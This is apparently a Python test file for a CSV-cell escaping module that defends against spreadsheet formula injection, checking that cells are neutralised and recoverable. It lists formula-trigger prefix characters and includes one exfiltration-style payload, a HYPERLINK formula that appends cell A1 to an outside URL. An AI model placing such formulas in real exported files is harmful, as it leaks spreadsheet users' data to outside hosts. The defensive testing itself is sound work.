"""CSV cells: no spreadsheet runs one, and what was put in comes out."""

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from directory.domain.csvcells import recovered, safe, table

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", " ", "＝", "＋", "－", "＠", "\ufeff")
WORDS = st.text(alphabet=st.characters(exclude_categories=["Cs"]))


def read(text):
    return [*csv.reader(io.StringIO(text, newline=""))]


@settings(max_examples=10_000)
@given(WORDS | st.builds("{}{}".format, st.sampled_from((*DANGEROUS, "'", '"', ";")), WORDS))
@example('=HYPERLINK("https://example.org"&A1)')
@example("'=1")
def test_a_cell_is_harmless_and_recoverable(value):
    cell = safe(value)
    assert not cell.startswith(DANGEROUS)
    assert recovered(cell) == value
    assert read(table([[value, "next"]])) == [[cell, "next"]]


def test_the_control_of_plain_cells_is_dangerous():
    """The plain writer passes a formula on."""
    plain = io.StringIO()
    csv.writer(plain).writerow(["=1+1"])
    assert read(plain.getvalue())[0][0].startswith(DANGEROUS)


@pytest.mark.parametrize(
    ("value", "cell"), [(None, ""), ("", ""), (0, "0"), (2.5, "2.5"), (-1, "'-1")]
)
def test_other_values(value, cell):
    assert safe(value) == cell


def test_every_cell_is_quoted():
    assert table([["a;=1", 2]]) == '"a;=1","2"\r\n'
